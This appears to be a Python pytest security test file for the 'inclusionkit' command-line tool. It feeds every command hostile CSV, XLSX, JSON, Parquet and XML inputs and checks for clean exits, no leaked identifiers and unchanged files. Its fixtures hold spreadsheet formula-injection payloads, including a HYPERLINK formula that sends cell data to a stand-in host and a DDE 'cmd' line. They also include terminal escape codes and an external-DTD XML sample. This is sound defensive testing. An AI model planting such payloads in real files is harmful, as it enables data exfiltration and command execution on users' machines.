"""The hostile test matrix: every command over every class of hostile file, in every format.

Each hostile file is generated here from the bundled example, with identifier columns holding
distinctive markers (``_samples.IDENTIFIERS``). For every (class, format) case, every command
(validate, report, convert, pseudonymise, progress, retention, register import) runs on it and
must: exit 0 or 2 within a time bound; print no traceback; print no identifier from the input;
leave the input byte-identical, with its mode; leave a pre-existing output's mode as it was (an
output written anew from personal rows is owner-only).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import secrets
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import inclusionkit
from inclusionkit.cli import main
from tests.security._samples import IDENTIFIERS, example, run_bounded

Cells = tuple[list[str], list[list[Any]]]
"""A hostile table as a header and rows of cells (rows may be ragged)."""

FORMATS = ("csv", "xlsx", "json", "parquet")


def _base(rows: int = 12) -> Cells:
    """The example's first rows as text cells, plus identifier columns full of markers."""
    _, table = example()
    frame = table.head(rows).copy()
    for column, value in IDENTIFIERS.items():
        frame[column] = value
    text = frame.astype(object).where(frame.notna(), None)
    for column in ("birth_date", "entry_date", "exit_date"):
        text[column] = frame[column].dt.strftime("%Y-%m-%d").astype(object)
        text[column] = text[column].where(frame[column].notna(), None)
    return list(map(str, text.columns)), text.to_numpy().tolist()


def _set(cells: Cells, column: str, values: list[Any]) -> Cells:
    header, rows = cells
    index = header.index(column)
    out = [list(row) for row in rows]
    for row, value in zip(out, values, strict=False):
        row[index] = value
    return header, out


def _formulas() -> Cells:
    header, rows = _base()
    hostile = ['=HYPERLINK("http://evil.invalid/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]
    cells = _set(
        (header, rows), "nume", [f"{hostile[n % 4]}{IDENTIFIERS['nume']}" for n in range(12)]
    )
    return _set(cells, "partner", [hostile[n % 4] for n in range(12)])


def _odd_types() -> Cells:
    """Numbers in boolean columns, a fraction for disability, text in isced."""
    cells = _set(_base(), "minority", [9, -1, 0.5, 1, 0, "yes"] * 2)
    cells = _set(cells, "disability", [0.5] * 12)
    return _set(cells, "isced", ["nine", 2.5, -1, 3] * 3)


def _extreme_dates() -> Cells:
    dates = ["0001-01-01", "9999-12-31", "1800-05-05", "31.01.90", "2999-01-01", "1990-02-30"]
    cells = _set(_base(), "birth_date", dates * 2)
    return _set(cells, "exit_date", ["2999-12-31", "0001-01-01"] * 6)


def _exit_before_entry() -> Cells:
    return _set(_base(), "exit_date", ["1990-01-01"] * 12)


def _cnp_ids() -> Cells:
    return _set(_base(), "participant_id", [IDENTIFIERS["cnp"]] * 12)


def _duplicate_header() -> Cells:
    header, rows = _base()
    header = list(header)
    header[header.index("region")] = "gender"
    return header, rows


def _no_header() -> Cells:
    """The header row is missing: the first row (with identifiers) takes its place."""
    _header, rows = _base()
    return [str(cell) for cell in rows[0]], rows[1:]


def _ragged() -> Cells:
    header, rows = _base()
    rows = [list(row) for row in rows]
    rows[2] = [*rows[2], IDENTIFIERS["cnp"], IDENTIFIERS["nume"]]
    rows[4] = rows[4][:5]
    return header, rows


def _empty() -> Cells:
    return [], []


def _header_only() -> Cells:
    return _base()[0], []


def _control_characters() -> Cells:
    values = [f"a\r{IDENTIFIERS['nume']}", "b\x00c", "\ufeffd", "e\u202ef", "g\nh", "\x1b[2J"] * 2
    return _set(_base(), "partner", values)


def _long_cells() -> Cells:
    return _set(_base(), "partner", ["x" * 40_000] * 12)


CLASSES: dict[str, Callable[[], Cells]] = {
    "formulas": _formulas,
    "odd_types": _odd_types,
    "extreme_dates": _extreme_dates,
    "exit_before_entry": _exit_before_entry,
    "cnp_ids": _cnp_ids,
    "duplicate_header": _duplicate_header,
    "no_header": _no_header,
    "ragged": _ragged,
    "empty": _empty,
    "header_only": _header_only,
    "control_characters": _control_characters,
    "long_cells": _long_cells,
}

# What a format cannot express: a JSON record has no duplicate or ragged keys, and so on.
NOT_EXPRESSIBLE = {
    ("ragged", "json"),
    ("ragged", "parquet"),
    ("ragged", "xlsx"),
    ("duplicate_header", "json"),
    ("empty", "parquet"),
}


def _write(cells: Cells, fmt: str, path: Path) -> None:
    header, rows = cells
    if fmt == "csv":
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator="\n")
        if header:
            writer.writerow(header)
        writer.writerows(["" if cell is None else cell for cell in row] for row in rows)
        path.write_text(buffer.getvalue(), encoding="utf-8")
    elif fmt == "xlsx":
        book = openpyxl.Workbook()
        sheet = book.active
        assert sheet is not None
        if header:
            sheet.append(header)
        for row in rows:
            sheet.append([_xlsx_cell(cell) for cell in row])
        book.save(path)
    elif fmt == "json":
        records = [dict(zip(header, row, strict=False)) for row in rows]
        path.write_text(json.dumps(records, default=str), encoding="utf-8")
    else:
        columns = [
            [_parquet_cell(row[i]) if i < len(row) else None for row in rows]
            for i in range(len(header))
        ]
        arrays = [pa.array(values, type=pa.string()) for values in columns]
        pq.write_table(pa.Table.from_arrays(arrays, names=header), path)


def _xlsx_cell(cell: Any) -> Any:
    if isinstance(cell, str):
        # openpyxl refuses control characters; a hostile workbook cannot hold them either.
        return "".join(ch if ch >= " " or ch in "\t\n\r" else "?" for ch in cell)
    return cell


def _parquet_cell(cell: Any) -> str | None:
    return None if cell is None else str(cell)


def _hostile_xml(path: Path) -> None:
    path.write_text(
        '<?xml version="1.0"?>\n'
        '<!DOCTYPE iati-activities SYSTEM "http://example.invalid/iati.dtd">\n'
        '<iati-activities version="2.03"><iati-activity>'
        f"<iati-identifier>&undeclared;{IDENTIFIERS['cnp']}</iati-identifier>"
        "</iati-activity></iati-activities>\n"
    )


def _digest(path: Path) -> tuple[str, int]:
    return hashlib.sha256(path.read_bytes()).hexdigest(), stat.S_IMODE(path.stat().st_mode)


def _commands(source: Path, tmp: Path) -> dict[str, list[str]]:
    """Each command line over ``source``, writing beside it."""
    out = tmp / "out"
    project, _ = example()
    project_path = tmp / "project.json"
    if not project_path.exists():
        inclusionkit.write(project, project_path)
    key = tmp / "key.txt"
    if not key.exists():
        key.write_text(secrets.token_hex(32) + "\n")
    db = tmp / "register.db"
    return {
        "validate": ["validate", str(source), "--rejected", str(out / "rejected.csv")],
        "report": [
            "report", str(source), "-o", str(out / "report.csv"),
            "--excluded", str(out / "excluded.csv"),
        ],
        "convert": ["convert", str(source), str(out / "converted.parquet")],
        "pseudonymise": [
            "pseudonymise", str(source), str(out / "pseudo.csv"), "--key-file", str(key),
            "--rejected", str(out / "pseudo-rejected.csv"),
        ],
        "progress": [
            "progress", str(project_path), "--participations", str(source), "--format", "csv",
        ],
        "retention": [
            "retention", str(source), "--until", "2099-01-01", "-o", str(out / "retention.csv"),
        ],
        "register import": [
            "register", "import", f"sqlite:///{db}", str(source), "--partner", "cpe",
        ],
    }  # fmt: skip


# Outputs that exist before each command, with a mode a rewrite must keep.
PRESET_MODE = 0o640


def _run_all(source: Path, tmp: Path, capsys: pytest.CaptureFixture[str]) -> list[str]:
    """Run every command on ``source``; return the failures found (empty: all good)."""
    failures: list[str] = []
    assert main(["register", "init", f"sqlite:///{tmp / 'register.db'}"]) == 0
    capsys.readouterr()
    out = tmp / "out"
    out.mkdir(exist_ok=True)
    os.chmod(source, 0o600)
    before = _digest(source)
    for name, argv in _commands(source, tmp).items():
        presets = [Path(arg) for arg in argv if arg.startswith(str(out))]
        for preset in presets:
            preset.write_text("previous\n")
            os.chmod(preset, PRESET_MODE)
        try:
            code = run_bounded(lambda argv=argv: main(argv))
        except SystemExit as exc:  # pragma: no cover - main returns its code
            code = int(exc.code or 0)
        captured = capsys.readouterr()
        text = captured.out + captured.err
        if code not in (0, 2):
            failures.append(f"{name}: exit {code}: {text[-300:]}")
        if "Traceback" in text:
            failures.append(f"{name}: traceback: {text[-500:]}")
        for column, marker in IDENTIFIERS.items():
            if marker in text:
                failures.append(f"{name}: printed the {column} marker")
        if _digest(source) != before:
            failures.append(f"{name}: changed its input")
        for preset in presets:
            if preset.exists() and stat.S_IMODE(preset.stat().st_mode) != PRESET_MODE:
                failures.append(
                    f"{name}: {preset.name} mode {oct(stat.S_IMODE(preset.stat().st_mode))}"
                )
    return failures


CASES = [(kind, fmt) for kind in CLASSES for fmt in FORMATS if (kind, fmt) not in NOT_EXPRESSIBLE]


@pytest.mark.parametrize(("kind", "fmt"), CASES, ids=[f"{k}-{f}" for k, f in CASES])
def test_every_command_survives_hostile_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str, fmt: str
) -> None:
    """Every command on this hostile file exits 0 or 2, without a traceback or an identifier,
    and leaves its input and the modes of existing outputs as they were."""
    source = tmp_path / f"hostile.{fmt}"
    _write(CLASSES[kind](), fmt, source)
    assert _run_all(source, tmp_path, capsys) == []


def test_every_command_survives_hostile_xml(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An IATI file with an external DTD and an undeclared entity: exit 2 everywhere, clearly."""
    pytest.importorskip("inclusionkit_iati")
    source = tmp_path / "hostile.xml"
    _hostile_xml(source)
    assert _run_all(source, tmp_path, capsys) == []
    assert main(["convert", str(source), str(tmp_path / "project.json")]) == 2
    assert "refused" in capsys.readouterr().err


def test_new_personal_outputs_are_owner_only(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Rejected rows, a converted table and pseudonymised rows are created with mode 0600."""
    source = tmp_path / "parts.csv"
    _write(_odd_types(), "csv", source)
    rejected, converted = tmp_path / "rejected.csv", tmp_path / "converted.csv"
    # The contact columns are no canonical column: left out on purpose, as a user would.
    ignore = ["--ignore-columns", "email,telefon,adresa"]
    main(["validate", str(source), "--rejected", str(rejected), *ignore])
    clean = tmp_path / "clean.csv"
    _, table = example()
    inclusionkit.write(table.head(10), clean)
    main(["convert", str(clean), str(converted)])
    capsys.readouterr()
    for path in (rejected, converted, clean):
        assert path.exists(), path
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
